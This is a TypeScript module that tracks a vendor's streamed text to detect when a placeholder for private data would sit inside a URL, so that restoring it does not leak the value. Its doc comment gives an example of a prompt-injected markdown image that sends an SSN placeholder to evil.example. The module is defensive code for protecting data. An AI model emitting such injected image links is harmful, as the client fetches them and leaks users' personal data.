import type { RestoreEncoding } from "./restore-options.ts";
import {
  BACKSLASH,
  BACKSPACE,
  CARRIAGE_RETURN,
  COLON,
  DOUBLE_QUOTE,
  EQUALS,
  FORM_FEED,
  GREATER_THAN,
  IS_CONTAINER_MARKER,
  IS_PLAIN,
  LESS_THAN,
  LINE_FEED,
  LINK_OPEN,
  MARKERS_BY_LAST_CODE,
  type Marker,
  OPEN_BRACKET,
  OPEN_PAREN,
  REFERENCE_COLON,
  SINGLE_QUOTE,
  SPACE,
  TAB,
  hexValue,
  isAsciiLetter,
  isAsciiLetterOrDigit,
  isWhitespace,
} from "./url-syntax.ts";

/**
 * Follows a vendor's answer character by character and says whether a placeholder starting
 * at the current position would sit inside a URL, where restoring it could carry the real
 * value out (a prompt-injected `![](https://evil.example/?q=[US_SSN_7QK2MX])` is fetched by
 * the client's markdown renderer the moment it is shown).
 *
 * A position is inside a URL when any of these hold:
 * 1. It is inside an angle-bracket span: from a `<` followed by an ASCII letter (an HTML tag
 *    or an autolink such as `<https://…>`), or a `<` that opens a link destination (right
 *    after `](`, or first in a reference definition's destination), up to the closing `>` or
 *    a blank line. Whitespace does not end the span, and a `>` inside a quoted attribute
 *    value (`="…"`, `='…'`) does not close it.
 * 2. The current segment — the characters since the last whitespace, the last `>` that
 *    closed such a span, or (in JSON) the start of the string — contains, ignoring ASCII
 *    case, `//` (so `://` and protocol-relative `//host`), `](`, `url(`, `www.`, a scheme
 *    (`http:` `https:` `ftp:` `ftps:` `sftp:` `file:` `mailto:` `data:` `tel:` `sms:`
 *    `javascript:` `vbscript:` `blob:` `ws:` `wss:`, not preceded by a letter or digit), or
 *    an attribute (`src=` `href=` `srcset=` `action=` `poster=` `background=` `data=`
 *    `cite=` `ping=`, anywhere, so `lowsrc=` and `formaction=` count too). Only the text
 *    before the position counts.
 * 3. It is in a markdown reference definition's destination: the segment starts with `[`,
 *    has nothing before it on its line but list or quote markers (`-`, `*`, `+`, `>`, `1.`,
 *    `1)`), and has reached `]:`; or it is the next segment after one that ended in `]:`
 *    (the destination may be on the next line; a blank line cancels that).
 *
 * Only the vendor's text is followed (never restored values), and only a few flags and the
 * last {@link RECENT_SIZE} characters of the segment are kept, so state is constant-size.
 * In `"json-string"` encoding the text is JSON source: escapes (`\n`, `\/`, `\u003c` …) are
 * decoded before they are followed, and each JSON string starts a new segment.
 */
export interface RestoreUrlContext {
  /** Follows `text[start..end)`, the vendor's text as it arrived. */
  advance(text: string, start: number, end: number): void;
  /** True when a placeholder starting at the current position would be inside a URL. */
  isInsideUrl(): boolean;
}

/** Enough for the longest marker plus the character before it (the boundary check). */
const RECENT_SIZE = 16;
const RECENT_MASK = RECENT_SIZE - 1;

/** Creates a tracker for one stream of vendor text (one per restorer). */
export function createRestoreUrlContext(options: { encoding?: RestoreEncoding } = {}): RestoreUrlContext {
  const recent = new Uint16Array(RECENT_SIZE);
  let recentEnd = 0;
  let segmentLength = 0;
  let segmentInUrl = false;
  let segmentIsReferenceLabel = false;
  let segmentIsDestination = false;
  let referenceColonLast = false;
  let destinationPending = false;
  let linkOpenedLast = false;
  let lessThanPending = false;
  /** Nothing on this line yet but list or quote markers (`-`, `1.`, `>`), where a definition may start. */
  let lineHasOnlyContainerMarkers = true;
  let lineIsBlank = false;
  let insideAngle = false;
  let angleQuote = 0;
  let angleAfterEquals = false;

  let jsonInString = false;
  /** 0: no escape; 1: after `\`; 2–5: inside `\uXXXX`, with `jsonEscape - 2` hex digits read. */
  let jsonEscape = 0;
  let jsonUnicode = 0;

  function endsWith(marker: Marker): boolean {
    const reversed = marker.reversed;
    const length = reversed.length;
    if (segmentLength < length) return false;
    for (let offset = 0; offset < length; offset++) {
      if (recent[(recentEnd - 1 - offset) & RECENT_MASK] !== reversed[offset]) return false;
    }
    return !marker.wordStart || segmentLength === length || !isAsciiLetterOrDigit(recent[(recentEnd - 1 - length) & RECENT_MASK]!);
  }

  function resetSegment(): void {
    segmentLength = 0;
    segmentInUrl = false;
    referenceColonLast = false;
    linkOpenedLast = false;
  }

  function openAngle(): void {
    insideAngle = true;
    angleQuote = 0;
    angleAfterEquals = false;
  }

  function takeWhitespace(code: number): void {
    lessThanPending = false;
    linkOpenedLast = false;
    if (code === LINE_FEED) {
      // A blank line ends every inline construct in markdown, an unclosed tag included.
      if (lineIsBlank) {
        insideAngle = false;
        destinationPending = false;
      }
      lineIsBlank = true;
      lineHasOnlyContainerMarkers = true;
    }
    if (insideAngle || segmentLength === 0) return;
    if (referenceColonLast) destinationPending = true;
    resetSegment();
  }

  function takeInsideAngle(code: number): void {
    if (angleQuote !== 0) {
      if (code === angleQuote) angleQuote = 0;
      return;
    }
    if (code === GREATER_THAN) {
      insideAngle = false;
      resetSegment();
      return;
    }
    // Only a quote that opens an attribute value hides a `>`; `it's` in an autolink does not.
    if (angleAfterEquals && (code === DOUBLE_QUOTE || code === SINGLE_QUOTE)) angleQuote = code;
    angleAfterEquals = code === EQUALS;
  }

  function take(code: number): void {
    if (code <= SPACE && isWhitespace(code)) {
      takeWhitespace(code);
      return;
    }
    lineIsBlank = false;
    if (insideAngle) {
      takeInsideAngle(code);
      return;
    }
    if (lessThanPending) {
      lessThanPending = false;
      if (isAsciiLetter(code)) {
        openAngle();
        return;
      }
    }
    if (segmentLength === 0) {
      segmentIsReferenceLabel = lineHasOnlyContainerMarkers && code === OPEN_BRACKET;
      segmentIsDestination = destinationPending;
      if (destinationPending) {
        destinationPending = false;
        segmentInUrl = true;
      }
    }
    recent[recentEnd] = code >= 0x41 && code <= 0x5a ? code | 0x20 : code;
    recentEnd = (recentEnd + 1) & RECENT_MASK;
    segmentLength++;
    if (lineHasOnlyContainerMarkers && (code >= 128 || IS_CONTAINER_MARKER[code] === 0)) lineHasOnlyContainerMarkers = false;
    // A `<` that opens a link destination opens an angle span even before a non-letter.
    const destinationOpen = linkOpenedLast || referenceColonLast || (segmentIsDestination && segmentLength === 1);
    linkOpenedLast = false;
    referenceColonLast = false;
    if (code >= 128) return;
    const markers = MARKERS_BY_LAST_CODE[code];
    if (markers !== undefined && !segmentInUrl) {
      for (const marker of markers) {
        if (endsWith(marker)) {
          segmentInUrl = true;
          break;
        }
      }
    }
    if (code === LESS_THAN) {
      if (destinationOpen) openAngle();
      else lessThanPending = true;
    } else if (code === OPEN_PAREN) {
      linkOpenedLast = endsWith(LINK_OPEN);
    } else if (code === COLON && segmentIsReferenceLabel && endsWith(REFERENCE_COLON)) {
      segmentInUrl = true;
      referenceColonLast = true;
    }
  }

  /** Decodes JSON source into the characters it stands for; structure acts as whitespace. */
  function takeJsonSource(code: number): void {
    if (!jsonInString) {
      if (code === DOUBLE_QUOTE) jsonInString = true;
      take(SPACE);
      return;
    }
    if (jsonEscape === 0) {
      if (code === BACKSLASH) jsonEscape = 1;
      else if (code === DOUBLE_QUOTE) {
        jsonInString = false;
        take(SPACE);
      } else take(code);
      return;
    }
    if (jsonEscape === 1) {
      jsonEscape = 0;
      switch (code) {
        case 0x6e: return take(LINE_FEED);
        case 0x72: return take(CARRIAGE_RETURN);
        case 0x74: return take(TAB);
        case 0x66: return take(FORM_FEED);
        case 0x62: return take(BACKSPACE);
        case 0x75:
          jsonEscape = 2;
          jsonUnicode = 0;
          return;
        default: return take(code);
      }
    }
    const digit = hexValue(code);
    if (digit < 0) {
      // Malformed escape: the vendor's JSON is broken; follow the character literally.
      jsonEscape = 0;
      take(code);
      return;
    }
    jsonUnicode = jsonUnicode * 16 + digit;
    if (++jsonEscape === 6) {
      jsonEscape = 0;
      take(jsonUnicode);
    }
  }

  const isJson = options.encoding === "json-string";

  return {
    advance: function advance(text, start, end) {
      if (isJson) {
        for (let index = start; index < end; index++) takeJsonSource(text.charCodeAt(index));
        return;
      }
      for (let index = start; index < end; index++) {
        const code = text.charCodeAt(index);
        if (segmentLength === 0 || insideAngle || lessThanPending || (code < 128 && IS_PLAIN[code] === 0)) {
          take(code);
          continue;
        }
        // Most characters only extend a started segment: do that here, without a call.
        recent[recentEnd] = code >= 0x41 && code <= 0x5a ? code | 0x20 : code;
        recentEnd = (recentEnd + 1) & RECENT_MASK;
        segmentLength++;
        linkOpenedLast = false;
        referenceColonLast = false;
        if (lineHasOnlyContainerMarkers && (code >= 128 || IS_CONTAINER_MARKER[code] === 0)) lineHasOnlyContainerMarkers = false;
      }
    },
    isInsideUrl: function isInsideUrl() {
      return insideAngle || (segmentLength > 0 ? segmentInUrl : destinationPending);
    },
  };
}
